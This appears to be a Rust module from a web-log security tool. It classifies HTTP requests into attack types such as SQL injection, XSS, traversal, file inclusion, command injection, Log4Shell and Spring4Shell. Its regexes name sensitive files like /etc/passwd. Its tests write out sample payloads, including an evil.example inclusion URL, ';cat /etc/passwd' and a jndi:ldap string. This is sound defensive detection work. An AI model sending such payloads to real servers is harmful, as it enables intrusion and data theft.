    let mut per_value = query.contains("://") && RFI_CANDIDATE.is_match(&query);
    for i in matches.iter() {
        let class = TARGET_SETS[i].0;
        if value_class(class) {
            per_value = true;
        } else {
            push(out, class);
        }
    }
    if !per_value {
        return;
    }
    for piece in raw.split('&') {
        let (raw_name, raw_value) = match piece.split_once('=') {
            Some((n, v)) => (n, v),
            None => ("", piece),
        };
        let (name, _) = decode_all(raw_name);
        let name = name.to_ascii_lowercase();
        // A name is text too when it is not an identifier (`?<script>…=1`).
        if !name.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'[' | b']' | b' ')
        }) {
            classify_plain(&fold_separators(&name), out);
        }
        classify_value(&name, raw_value, depth, out);
    }
}

/// A URL that ends in the `?`/null-byte trick or names a script or text file: worth judging
/// parameter by parameter for remote file inclusion.
static RFI_CANDIDATE: LazyLock<Regex> = LazyLock::new(|| {
    crate::fastre::new(
        r"(?i)://[^&]*(?:\?\s*(?:&|$)|\x00|%00|\.(?:php\d?|phtml|inc|txt|sh|pl|py|cgi|aspx?|jsp|dat)\??\s*(?:$|[?&#]))",
    )
    .expect("static regex")
});

/// Only the injection classes of `text`.
fn classify_plain(text: &str, out: &mut Vec<AttackClass>) {
    if text.is_empty() {
        return;
    }
    for i in TARGET_SET.matches(text).iter() {
        let class = TARGET_SETS[i].0;
        if value_class(class) {
            push(out, class);
        }
    }
}

/// One parameter value (`raw` still encoded).
fn classify_value(name: &str, raw: &str, depth: usize, out: &mut Vec<AttackClass>) {
    let (value, _) = decode_all(raw);
    let value = fold_separators(&value);
    let trimmed = value.trim();
    if trimmed.is_empty() {
        return;
    }
    if depth < MAX_NESTING {
        if let Some(rest) = url_rest(trimmed) {
            if is_rfi(name, trimmed) {
                push(out, AttackClass::Rfi);
            }
            // Another site's URL: its path is a path (traversal, script tags), its query a query.
            let (path, query) = match rest.find(['?', '#']) {
                Some(i) => (&rest[..i], rest[i + 1..].trim_start_matches('?')),
                None => (rest, ""),
            };
            classify_scoped(path, true, out);
            if path.contains("..") {
                let mut lfi = Vec::new();
                classify_plain(path, &mut lfi);
                if lfi.contains(&AttackClass::Lfi) {
                    push(out, AttackClass::Lfi);
                }
            }
            classify_query(query, depth + 1, out);
            return;
        }
        if trimmed.len() <= MAX_STRUCTURED {
            if let Some(strings) = json_strings(trimmed) {
                for s in strings {
                    classify_value(name, &s, depth + 1, out);
                }
                return;
            }
            // Tokens are judged on the raw value: `+` is base64, not a space.
            let token = super::urldecode::decode_once(raw.as_bytes(), false);
            if let Some(decoded) = token_text(&token) {
                if let Some(text) = decoded {
                    classify_value(name, &text, depth + 1, out);
                }
                return;
            }
        }
    }
    let lower = value.to_ascii_lowercase();
    if name.contains("sql") && is_sql_statement(&lower) {
        // A query tool's own parameter (phpMyAdmin `sql_query=`, Adminer `sql=`): a statement,
        // not an injection into one (its backticks quote identifiers). The other classes apply.
        let mut classes = Vec::new();
        classify_plain(&lower, &mut classes);
        for c in classes {
            if !matches!(c, AttackClass::Sqli | AttackClass::CmdInjection) {
                push(out, c);
            }
        }
        return;
    }
    classify_plain(&lower, out);
}

/// True when `lower` starts with an SQL statement keyword.
fn is_sql_statement(lower: &str) -> bool {
    let first = lower
        .trim_start()
        .split(|c: char| !c.is_ascii_alphabetic())
        .next();
    matches!(
        first,
        Some(
            "select"
                | "show"
                | "insert"
                | "update"
                | "delete"
                | "alter"
                | "create"
                | "drop"
                | "explain"
                | "describe"
                | "desc"
                | "with"
                | "set"
                | "use"
                | "truncate"
                | "optimize"
                | "analyze"
                | "check"
                | "repair"
                | "call"
                | "replace"
        )
    )
}

/// What follows `scheme://` (or `//`) when `value` is a web or FTP URL.
fn url_rest(value: &str) -> Option<&str> {
    let lower = value.get(..8).unwrap_or(value).to_ascii_lowercase();
    for scheme in ["https://", "http://", "ftps://", "ftp://", "//"] {
        if lower.starts_with(scheme) {
            return value.get(scheme.len()..);
        }
    }
    None
}

/// Parameter names that name a file to include (`page=`, `file=`, `mosConfig_absolute_path=`).
fn include_like(name: &str) -> bool {
    const NAMES: &[&str] = &[
        "page",
        "file",
        "include",
        "inc",
        "path",
        "dir",
        "template",
        "tpl",
        "document",
        "doc",
        "folder",
        "root",
        "pg",
        "style",
        "lang",
        "language",
        "module",
        "mod",
        "conf",
        "config",
        "load",
        "read",
        "show",
        "view",
        "content",
        "cat",
        "action",
        "site",
        "show_file",
        "filename",
        "load_file",
        "class",
        "lib",
        "base",
        "main",
        "body",
        "option",
        "go",
    ];
    let name = name.trim_end_matches("[]");
    NAMES.contains(&name)
        || [
            "path", "dir", "file", "root", "inc", "include", "_page", "template",
        ]
        .iter()
        .any(|s| name.ends_with(s))
}

/// Remote file inclusion: a URL fed to a parameter that includes files, naming a script or a
/// text file, or ending in the `?`/null-byte trick that cuts off the suffix the application
/// appends. A URL in a parameter is otherwise ordinary (redirects, analytics, sharing).
fn is_rfi(name: &str, url: &str) -> bool {
    if url.contains('\0') || url.contains("%00") || url.trim_end().ends_with('?') {
        return true;
    }
    if !include_like(name) {
        return false;
    }
    let Some(rest) = url_rest(url) else {
        return false;
    };
    let path = rest.split(['?', '#']).next().unwrap_or("");
    let Some(file) = path
        .split_once('/')
        .map(|(_, p)| p.rsplit('/').next().unwrap_or(""))
    else {
        return false;
    };
    let ext = file.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
    matches!(
        ext.as_deref(),
        Some(
            "php"
                | "php3"
                | "php4"
                | "php5"
                | "php7"
                | "phtml"
                | "inc"
                | "txt"
                | "sh"
                | "pl"
                | "py"
                | "cgi"
                | "asp"
                | "aspx"
                | "jsp"
                | "dat"
        )
    )
}

/// The strings (keys and values) of a JSON object or array, or None when `value` is not one.
fn json_strings(value: &str) -> Option<Vec<String>> {
    let first = value.as_bytes().first()?;
    let last = value.as_bytes().last()?;
    if !matches!((first, last), (b'{', b'}') | (b'[', b']')) {
        return None;
    }
    let parsed: serde_json::Value = serde_json::from_str(value).ok()?;
    let mut out = Vec::new();
    let mut stack = vec![&parsed];
    while let Some(v) = stack.pop() {
        match v {
            serde_json::Value::String(s) => out.push(s.clone()),
            serde_json::Value::Array(a) => stack.extend(a.iter()),
            serde_json::Value::Object(o) => {
                for (k, v) in o {
                    out.push(k.clone());
                    stack.push(v);
                }
            }
            _ => {}
        }
    }
    Some(out)
}

/// When `raw` is a base64 or JWT token: Some(its text, if it decodes to text), else None.
/// A token is judged by what it carries: random bytes hold no attack, a base64-wrapped payload
/// is read as the payload.
fn token_text(raw: &[u8]) -> Option<Option<String>> {
    use base64::Engine;
    let b64 = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/');
    let b64url = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
    let decode = |seg: &[u8]| -> Option<Vec<u8>> {
        let seg = std::str::from_utf8(seg).ok()?.trim_end_matches('=');
        base64::engine::general_purpose::STANDARD_NO_PAD
            .decode(seg)
            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(seg))
            .ok()
    };
    let as_text = |bytes: Vec<u8>| -> Option<String> {
        let s = String::from_utf8(bytes).ok()?;
        let printable = s
            .chars()
            .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
            .count();
        (printable * 10 >= s.chars().count() * 9).then_some(s)
    };
    let parts: Vec<&[u8]> = raw.split(|&b| b == b'.').collect();
    // JWT (JWS: three parts; JWE: five), base64url without padding.
    if (parts.len() == 3 || parts.len() == 5)
        && parts[0].len() >= 8
        && parts.iter().all(|p| p.iter().all(|&b| b64url(b)))
    {
        let texts: Vec<String> = parts
            .iter()
            .filter_map(|p| decode(p).and_then(as_text))
            .collect();
        return Some((!texts.is_empty()).then(|| texts.join("\n")));
    }
    let body = raw
        .strip_suffix(b"==")
        .or_else(|| raw.strip_suffix(b"="))
        .unwrap_or(raw);
    let std =
        body.iter().all(|&b| b64(b)) && raw.len().is_multiple_of(4) && raw.first() != Some(&b'/');
    let url = body.iter().all(|&b| b64url(b));
    // Random bytes in base64 have digits and mixed case; a long word is not a token.
    let digit = body.iter().any(u8::is_ascii_digit);
    let upper = body.iter().any(u8::is_ascii_uppercase);
    if raw.len() < 16 || !(std || url) || !digit || !upper {
        return None;
    }
    Some(decode(raw).and_then(as_text))
}

/// A path made only of letters, digits and `/._~-`, without `..`: no path-capable pattern
/// means anything in it (they need brackets, quotes, `$`, `=`, `..` …), so the pattern set is
/// not run — most requests of a site are such paths.
fn plain_path(path: &str) -> bool {
    path.bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'~' | b'-'))
        && !path.contains("..")
}

/// Classifies one access record.
pub fn classify(rec: &AccessRecord) -> Classification {
    let (decoded, rounds) = decode_all(&rec.target);
    let mut classes = Vec::new();
    // The query carries most payloads; the path is checked for the classes that make sense
    // there (traversal, exploit-family shapes, script tags).
    let raw_path_len = rec.target.find('?').unwrap_or(rec.target.len());
    let (path_decoded, _) = decode_all(&rec.target[..raw_path_len]);
    let path_decoded = fold_separators(&path_decoded);
    if !plain_path(&path_decoded) {
        classify_scoped(&path_decoded, true, &mut classes);
    }
    if raw_path_len < rec.target.len() {
        classify_query(&rec.target[raw_path_len + 1..], 0, &mut classes);
    }
    if traversal_to_target(&rec.target) && !classes.contains(&AttackClass::PathTraversal) {
        classes.push(AttackClass::PathTraversal);
    }
    if path_decoded.contains("..") {
        // Traversal towards a sensitive file is a file-inclusion attempt too.
        let mut lfi = Vec::new();
        classify_scoped(&path_decoded, false, &mut lfi);
        if lfi.contains(&AttackClass::Lfi) {
            classes.push(AttackClass::Lfi);
        }
    }
    let (ua, _) = decode_all(&rec.user_agent);
    for (class, re) in UA_SET.iter() {
        if re.is_match(&ua) && !classes.contains(class) {
            classes.push(*class);
        }
    }
    let (referer, _) = decode_all(&rec.referer);
    for (class, re) in UA_SET.iter().filter(|(c, _)| {
        matches!(
            c,
            AttackClass::Shellshock | AttackClass::Log4Shell | AttackClass::Sqli
        )
    }) {
        if re.is_match(&referer) && !classes.contains(class) {
            classes.push(*class);
        }
    }
    if let Some(status) = rec.status {
        if (400..500).contains(&status) && status != 401 && PROBE.is_match(rec.path()) {
            classes.push(AttackClass::Probe);
        }
        if status == 400 {
            classes.push(AttackClass::BadRequest);
        }
    }
    classes.sort();
    classes.dedup();
    Classification {
        classes,
        decoded,
        decode_rounds: rounds,
    }
}

static TRAVERSAL_TARGET: LazyLock<Regex> = LazyLock::new(|| {
    crate::fastre::new(
        r"(?i)etc.{1,16}?(?:passwd|issue|hosts|shadow|group)|boot\.ini|win\.ini|system32|\{file\}",
    )
    .expect("static regex")
});

/// Traversal fuzzers (dotdotpwn and friends) wrap `etc/passwd` or `boot.ini` in every broken
/// encoding there is; what stays constant is junk made of dots, `?` and escapes before a
/// well-known target file.
fn traversal_to_target(raw_target: &str) -> bool {
    let q = match raw_target.find('?') {
        Some(i) => &raw_target[i + 1..],
        None => raw_target,
    };
    // Every decoding round is looked at: broken double encodings (`%%32%%66`) turn the target
    // itself into garbage when decoded once too often.
    let mut cur = q.as_bytes().to_vec();
    for _ in 0..super::urldecode::MAX_ROUNDS {
        let next = super::urldecode::decode_once(&cur, true);
        let text = fold_separators(&String::from_utf8_lossy(&next));
        if junk_before_target(&text) {
            return true;
        }
        if next == cur {
            break;
        }
        cur = next;
    }
    false
}

fn junk_before_target(folded: &str) -> bool {
    let Some(m) = TRAVERSAL_TARGET.find(folded) else {
        return false;
    };
    let prefix = &folded[..m.start()];
    let value = prefix.rsplit('=').next().unwrap_or(prefix);
    let odd = value
        .chars()
        .filter(|c| !c.is_ascii_alphanumeric() && !matches!(c, '/' | '\\' | ' '))
        .count();
    odd >= 2
        && value
            .chars()
            .any(|c| matches!(c, '.' | '?' | '%' | '^') || !c.is_ascii() || (c as u32) < 0x20)
}

/// True when `path` is a well-known probe target.
pub fn is_probe_path(path: &str) -> bool {
    PROBE.is_match(path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logs::parse::parse_line;

    fn classes(target: &str) -> Vec<AttackClass> {
        let line = format!(
            "203.0.113.5 - - [01/Jan/2024:00:00:00 +0000] \"GET {target} HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\""
        );
        classify(&parse_line(&line).expect("parse")).classes
    }

    #[test]
    fn classes_by_shape() {
        assert!(classes("/p.php?id=1%20UNION%20SELECT%201,2,3--").contains(&AttackClass::Sqli));
        assert!(classes("/s?q=%3Cscript%3Ealert(1)%3C/script%3E").contains(&AttackClass::Xss));
        assert!(classes("/d?f=..%252f..%252fetc%252fpasswd").contains(&AttackClass::PathTraversal));
        assert!(classes("/i.php?page=http://evil.example/x.txt?").contains(&AttackClass::Rfi));
        assert!(
            classes("/ping?ip=127.0.0.1;cat%20/etc/passwd").contains(&AttackClass::CmdInjection)
        );
        assert!(classes("/?x=${jndi:ldap://e.example/a}").contains(&AttackClass::Log4Shell));
        assert!(classes(
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        )
        .contains(&AttackClass::ThinkPhp));
        assert!(classes(
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"
        )
        .contains(&AttackClass::Spring4Shell));
    }

    #[test]
    fn benign_requests() {
        for t in [
            "/",
            "/index.php?p=42",
            "/wp-content/themes/twentytwenty/style.css?ver=6.1",
            "/search?q=rust+programming",
            "/blog/2024/01/hello-world/",
            "/api/v1/users?page=2&sort=name",
            "/static/app.min.js",
        ] {
            assert!(classes(t).is_empty(), "{t}: {:?}", classes(t));
        }
    }
}
